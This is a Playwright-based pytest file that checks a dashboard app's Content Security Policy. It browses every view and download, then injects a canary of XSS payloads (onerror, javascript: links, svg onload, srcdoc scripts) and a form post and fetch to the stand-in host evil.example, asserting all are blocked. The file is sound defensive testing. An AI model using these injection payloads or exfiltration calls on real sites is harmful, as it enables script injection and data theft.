"""What a host sends runs in a real browser under its own policy, and nothing else does."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from oss_ai_monitor.perspectives import all_perspectives
from tests.hosting.conftest import Host, hosting

from .conftest import PLOT

pytestmark = pytest.mark.browser
CANARY = """async () => {
  window.hits = [];
  window.blocked = [];
  document.addEventListener("securitypolicyviolation", (found) => window.blocked.push(found.effectiveDirective));
  const place = document.createElement("div");
  document.body.append(place);
  place.innerHTML = `<img src="data:," onerror="hits.push('handler')">
    <a id="lure" href="javascript:hits.push('link')">x</a>
    <svg onload="hits.push('svg')"></svg><iframe srcdoc="<script>parent.hits.push('frame')</script>"></iframe>
    <object data="data:text/html,x"></object><form id="away" action="https://evil.example"><input></form>`;
  document.getElementById("lure").click();
  document.getElementById("away").requestSubmit();
  const script = document.createElement("script");
  script.textContent = "hits.push('script')";
  document.body.append(script);
  await fetch("https://evil.example/").catch(() => null);
  await new Promise((done) => setTimeout(done, 300));
  place.remove();
  return {hits: window.hits, blocked: [...new Set(window.blocked)].sort()};
}"""


@pytest.fixture(scope="module")
def host(simulated_warehouse: Path) -> Iterator[Host]:
    with hosting(simulated_warehouse) as one:
        yield one


@pytest.fixture
def complaints() -> list[str]:
    return []


@pytest.fixture
def watched(chromium: Browser, complaints: list[str]) -> Iterator[Page]:
    """A page that notes every error and every violation of the policy that its browser reports."""
    context = chromium.new_context(viewport={"width": 1280, "height": 900}, accept_downloads=True)
    made = context.new_page()
    made.on("console", lambda said: complaints.append(said.text) if said.type == "error" else None)
    made.on("pageerror", lambda error: complaints.append(str(error)))
    yield made
    context.close()


def is_drawn(page: Page) -> None:
    page.wait_for_function(
        f"() => {{ try {{ return {PLOT}.some((plot) => plot.inner_width > 0) }} catch {{ return false }} }}"
    )


def test_every_perspective_works_under_the_policy(host: Host, watched: Page, complaints: list[str]) -> None:
    watched.goto(f"{host.root}/serve?dataset=v2")
    is_drawn(watched)
    for kind in all_perspectives[1:]:
        watched.get_by_role("tab", name=kind.title, exact=True).click()
        watched.wait_for_function(
            f"() => {PLOT}.length > 0 && location.search.includes('view={kind.slug}') && document.title",
        )
        watched.wait_for_timeout(400)
    watched.get_by_role("button", name="Month", exact=True).first.click()
    watched.wait_for_function("() => location.search.includes('unit=month')")
    for kind in ("CSV", "PNG", "SVG"):
        with watched.expect_download():
            watched.locator("button:visible", has_text=kind).first.click()
    watched.locator("button:visible", has_text="Table").first.click()
    watched.get_by_role("button", name="Method").click()
    watched.wait_for_timeout(300)
    assert [said for said in complaints if "Content Security Policy" in said or "Error" in said] == []


def test_nothing_that_became_markup_runs_or_leaves(host: Host, watched: Page, complaints: list[str]) -> None:
    watched.goto(f"{host.root}/serve?view=model-types")
    is_drawn(watched)
    told = watched.evaluate(CANARY)
    assert told["hits"] == []
    assert {"connect-src", "script-src-attr", "script-src-elem", "form-action"} <= set(told["blocked"])
    assert complaints  # the browser says so too
